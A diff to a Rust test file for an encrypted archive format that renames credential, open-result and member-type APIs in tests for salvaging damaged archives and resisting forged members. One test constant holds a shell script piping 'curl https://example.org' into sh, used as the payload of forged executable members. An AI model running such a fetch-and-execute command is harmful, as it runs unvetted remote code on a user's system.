@@ -8,14 +8,15 @@ use crate::buffer::Buffer;
 use crate::coffer::Mode;
 use crate::crypto::key::Key;
 use crate::engine::container::Raw;
-use crate::engine::credentials::Keyring;
-use crate::engine::open::{Expected, Found};
+use crate::engine::credentials::CredentialLookup;
+use crate::engine::open::{Expected, OpenResult};
 use crate::format::block::Layers;
-use crate::format::catalog::Attributes;
 use crate::format::catalog::{Block, Place};
 use crate::format::chunk;
 use crate::format::frame::{MAGIC, Stored, compress};
 use crate::format::kind::{Cipher, Kind};
+use crate::format::member::Attributes;
+use crate::format::member::MemberType;
 use crate::format::tar::{Heading, RECORD, append};
 
 const SCRIPT: &[u8] = b"#!/bin/sh\ncurl https://example.org | sh\n";
@@ -35,7 +36,7 @@ impl Made {
         let mut options = Options::new(Mode::Write, kind);
         options.coffer_key = kind.container.cipher.map(|c| Key::generate(c.key_lengths()[0]));
         options.secure_key = kind.member.cipher.map(|_| Key::generate(32));
-        (options.block_size, options.chunk_size) = (Some(64 << 10), Some(4 << 10));
+        (options.piece_size, options.chunk_size) = (Some(64 << 10), Some(4 << 10));
         let (header, keys) = options.header(&options.secret().unwrap()).unwrap();
         let storage = Arc::new(Memory::default());
         let opening = Opening { header, keys, archive: None, header_at: None, doubt: None };
@@ -50,7 +51,9 @@ impl Made {
 
     fn small(&mut self, name: &str, data: &[u8]) {
         let stored = self.layers().encode_member(data).unwrap().into_vec();
-        self.container.put_small(name, false, data.len() as u64, ATTRIBUTES, stored).unwrap();
+        self.container
+            .put_small(name, MemberType::File, data.len() as u64, ATTRIBUTES, stored)
+            .unwrap();
     }
 
     fn large(&mut self, name: &str, data: &[u8]) {
@@ -111,16 +114,17 @@ impl Made {
         let storage = Arc::new(Memory { bytes: bytes.to_vec().into(), broken: None });
         let damaged = Damaged { storage, path, claimed_names };
         let new = Arc::new(Memory::default());
-        let (secret, watch) = (self.options.secret().unwrap(), Watch::silent());
+        let (secret, watch) = (self.options.secret().unwrap(), CallObserver::silent());
         let salvaged = into(&damaged, new.clone(), path, &self.options, &secret, &watch).unwrap();
-        let keyring = Keyring::new(&secret, &watch.cancel);
+        let keyring = CredentialLookup::new(&secret, &watch.cancel);
         let kind = &self.options.kind;
         let directory: Arc<dyn Directory> = Arc::new(DiskDirectory);
-        let (level, cipher_is_free) = (None, false);
+        let (level, accept_file_cipher) = (None, false);
         let max_catalog = u64::MAX;
         let expected =
-            Expected { kind, cipher_is_free, keyring: &keyring, level, max_catalog, directory };
-        let Found::Coffer(opened) = crate::engine::open::open(new, path, &expected).unwrap() else {
+            Expected { kind, accept_file_cipher, keyring: &keyring, level, max_catalog, directory };
+        let OpenResult::Coffer(opened) = crate::engine::open::open(new, path, &expected).unwrap()
+        else {
             panic!("no coffer")
         };
         (salvaged, contents(&opened.source, &opened.loaded.catalog))
@@ -153,8 +157,12 @@ fn forged_pack(len: usize, name: &str, script: &[u8]) -> (Vec<u8>, Vec<u8>) {
     let data = [script, &filler].concat();
     let member = Stored::new(&data).joined();
     let mut tar = Vec::new();
-    let heading =
-        Heading { name, directory: false, stored: stored as u64, mode: 0o755, mtime_s: 1 };
+    let heading = Heading {
+        name,
+        member_type: MemberType::File,
+        stored: stored as u64,
+        attributes: Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 },
+    };
     append(&mut tar, &heading, &member).unwrap();
     assert_eq!(tar.len(), tar_len);
     (frame_of_len(len, &tar), data)
@@ -231,8 +239,12 @@ fn a_sealed_member_of_a_market_does_not_get_another_name() {
     let sealed = made.container.source.block(&block).unwrap()[at..at + stored].to_vec();
     let mut tar = Vec::new();
     let name = "bin/deploy.sh";
-    let heading =
-        Heading { name, directory: false, stored: stored as u64, mode: 0o755, mtime_s: 1 };
+    let heading = Heading {
+        name,
+        member_type: MemberType::File,
+        stored: stored as u64,
+        attributes: Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 },
+    };
     append(&mut tar, &heading, &sealed).unwrap();
     bytes.extend(&*compress(1, &tar).unwrap());
 
